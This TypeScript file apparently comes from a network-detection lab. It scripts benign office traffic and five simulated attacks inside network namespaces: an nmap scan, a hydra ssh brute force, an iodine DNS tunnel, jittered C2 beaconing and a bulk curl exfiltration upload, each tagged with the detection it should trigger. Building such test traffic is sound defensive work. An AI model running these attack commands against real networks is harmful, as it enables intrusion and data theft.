// What happens on the office LAN: benign activity and the attacks, each with real tools from
// Debian's packages run inside an office host's namespace, each bounded in time. Every attack
// names the investigation it should open (detector, source, destination), which the summary
// compares against what detection found.

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Cleanup, run, sleep, startDaemon, waitForOutput } from './proc.js';
import { FILE_SERVER, type LabFiles, TUNNEL } from './services.js';
import { INTERNET, type Namespaces, OFFICE_HOSTS, OFFICE_SUBNET } from './topology.js';

export const ATTACKS = ['scan', 'bruteforce', 'dns-tunnel', 'beacon', 'exfil'] as const;
export type Attack = (typeof ATTACKS)[number];
export type ScenarioName = Attack | 'benign';
export const SCENARIO_NAMES: readonly ScenarioName[] = ['benign', ...ATTACKS];

export interface Expected {
  detector: Attack;
  sourceHost: string;
  source: string;
  destination: string;
}

export interface ScenarioContext {
  names: Namespaces;
  files: LabFiles;
  cleanup: Cleanup;
  /** Runs a command on an office host, bounded; the result is logged, never thrown. */
  on(host: string, argv: string[], timeoutMs: number): Promise<{ code: number | null; stdout: string; stderr: string }>;
  log(line: string): void;
  random(): number;
}

interface Scenario {
  name: ScenarioName;
  /** The investigation an attack should open; none for benign activity. */
  expected?: Expected;
  play(ctx: ScenarioContext): Promise<void>;
}

const host = (name: string) => OFFICE_HOSTS.find((h) => h.name === name)!;
const curl = (files: LabFiles, url: string, ...extra: string[]) => ['curl', '-sS', '--max-time', '60', '--cacert', files.caCert, '-o', '/dev/null', ...extra, url];
const between = (ctx: ScenarioContext, min: number, max: number) => min + (max - min) * ctx.random();

/**
 * The office's uplink for bulk transfers (curl --limit-rate, bytes/s). At veth speed (~60 MB/s of
 * 64 KiB segments) the live meter fell behind and the kernel dropped a third of the capture
 * (15,495 of 47,236 packets), losing the exfil upload; at 20 MiB/s it still dropped 3–15% on the
 * loaded 2-core machine, once a beacon check-in (the detector now tolerates a few missed beats).
 * tc netem would be the place to shape the link, but kernels without sch_netem (this machine's)
 * have none.
 */
const UPLINK_RATE = '8M';

/** Beacon: sessions of the implant, the mean gap and its jitter (± share, uniform). */
export const BEACON = { sessions: 13, gapMs: 11_000, jitter: 0.2 };
/** Exfiltration: bytes uploaded, above the detector's 200 MiB. */
export const EXFIL_BYTES = 240 * 1024 * 1024;
/**
 * hydra (libssh) tries about 4.5 passwords per ssh connection (sshd's MaxAuthTries is 6), and the
 * detector counts connections: measured here, 16 tasks made ~16 connections a minute and 32 tasks
 * ~65 (sshd's MaxStartups refuses some, which count too). 480 guesses with 32 tasks make ~130
 * connections in two minutes, above the detector's 100.
 */
const HYDRA_PASSWORDS = 480;
const HYDRA_TASKS = 32;
/** Through the tunnel: ~1,100 questions per 200 KB measured here (iodine 0.7, NULL records, Base128). */
const TUNNEL_UPLOAD_BYTES = 400 * 1024;
const TUNNELED_SITE = INTERNET.sites[2];
const TUNNEL_PINGS = 20;

const SCENARIOS: Scenario[] = [
  {
    name: 'benign',
    async play(ctx) {
      // Every workstation browses the sites (irregular gaps, few visits each), resolves names, and
      // the admin looks at the file server over ssh; ws3 downloads a large file.
      const browse = OFFICE_HOSTS.filter((h) => h.role === 'workstation').map(async (ws) => {
        for (let visit = 0; visit < 5; visit++) {
          await sleep(between(ctx, 2_000, 15_000));
          const site = INTERNET.sites[Math.floor(ctx.random() * INTERNET.sites.length)];
          await ctx.on(ws.name, ['dig', '+short', site.name], 10_000);
          await ctx.on(ws.name, curl(ctx.files, `https://${site.name}/`), 60_000);
        }
      });
      const admin = ctx.on('ws1', ['ssh', '-i', ctx.files.sshKey, '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
        `root@${FILE_SERVER.ip}`, 'uname -a; uptime; df -h /; ls -la /etc | head -50; sleep 5'], 60_000);
      const download = ctx.on('ws3', curl(ctx.files, `https://${INTERNET.mirror.name}/bytes/${100 * 1024 * 1024}`, '--limit-rate', UPLINK_RATE), 120_000);
      await Promise.all([...browse, admin, download]);
    },
  },
  {
    name: 'scan',
    expected: { detector: 'scan', sourceHost: 'ws3', source: host('ws3').ip, destination: OFFICE_SUBNET },
    async play(ctx) {
      await ctx.on('ws3', ['nmap', '-sS', '-T4', '-n', '--top-ports', '100', OFFICE_SUBNET], 120_000);
    },
  },
  {
    name: 'bruteforce',
    expected: { detector: 'bruteforce', sourceHost: 'ws2', source: host('ws2').ip, destination: FILE_SERVER.ip },
    async play(ctx) {
      const words = join(ctx.files.dir, 'passwords.txt');
      writeFileSync(words, Array.from({ length: HYDRA_PASSWORDS }, (_, i) => `guess${i}`).join('\n') + '\n');
      // -I: no restore file from an earlier run; hydra writes it to its working directory.
      await ctx.on('ws2', ['sh', '-c', `cd ${ctx.files.dir} && exec hydra -I -l admin -P ${words} -t ${HYDRA_TASKS} ssh://${FILE_SERVER.ip}`], 150_000);
    },
  },
  {
    name: 'dns-tunnel',
    expected: { detector: 'dns-tunnel', sourceHost: 'ws4', source: host('ws4').ip, destination: 'lab.example' },
    async play(ctx) {
      // -r: only through the resolver (no raw UDP straight to iodined), as a tunnel out of an
      // office whose only way out is its DNS server would go.
      const iodine = ctx.cleanup.daemon(
        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns.ip, INTERNET.tunnelDomain], { ns: ctx.names.hosts.ws4, logFile: join(ctx.files.dir, 'iodine.log') }),
      );
      try {
        await waitForOutput(iodine, /Connection setup complete/, 60_000);
        // The tunnel carries what a tunnel is for: a file sent to a site reached through it
        // (a host route on ws4 only), then a while of pings.
        await ctx.on('ws4', ['ip', 'route', 'add', `${TUNNELED_SITE.ip}/32`, 'via', TUNNEL.serverIp], 10_000);
        await ctx.on('ws4', ['sh', '-c', `head -c ${TUNNEL_UPLOAD_BYTES} /dev/urandom | curl -sS --max-time 60 -o /dev/null -T - http://${TUNNELED_SITE.ip}/upload`], 70_000);
        await ctx.on('ws4', ['ping', '-q', '-c', String(TUNNEL_PINGS), '-i', '0.5', '-s', '400', TUNNEL.serverIp], TUNNEL_PINGS * 1_000 + 30_000);
      } catch (error) {
        ctx.log(`dns-tunnel: ${(error as Error).message}`);
      } finally {
        await iodine.stop();
      }
    },
  },
  {
    name: 'beacon',
    expected: { detector: 'beacon', sourceHost: 'ws1', source: host('ws1').ip, destination: INTERNET.c2.organization },
    async play(ctx) {
      for (let i = 0; i < BEACON.sessions; i++) {
        if (i > 0) await sleep(BEACON.gapMs * (1 + BEACON.jitter * (2 * ctx.random() - 1)));
        await ctx.on('ws1', curl(ctx.files, `https://${INTERNET.c2.name}/api/v2/poll?id=ws1`, '-d', `seq=${i}`), 30_000);
      }
    },
  },
  {
    name: 'exfil',
    expected: { detector: 'exfil', sourceHost: 'ws2', source: host('ws2').ip, destination: INTERNET.drop.organization },
    async play(ctx) {
      await ctx.on('ws2', ['sh', '-c', `head -c ${EXFIL_BYTES} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`], 240_000);
    },
  },
];

export const scenario = (name: ScenarioName): Scenario => SCENARIOS.find((s) => s.name === name)!;

/** Plays the chosen scenarios at once (each is on its own host, or on its own service). */
export async function playScenarios(chosen: readonly ScenarioName[], ctx: ScenarioContext): Promise<void> {
  await Promise.all(
    chosen.map(async (name) => {
      const started = Date.now();
      ctx.log(`${name}: started`);
      await scenario(name).play(ctx);
      ctx.log(`${name}: done in ${((Date.now() - started) / 1000).toFixed(1)} s`);
    }),
  );
}
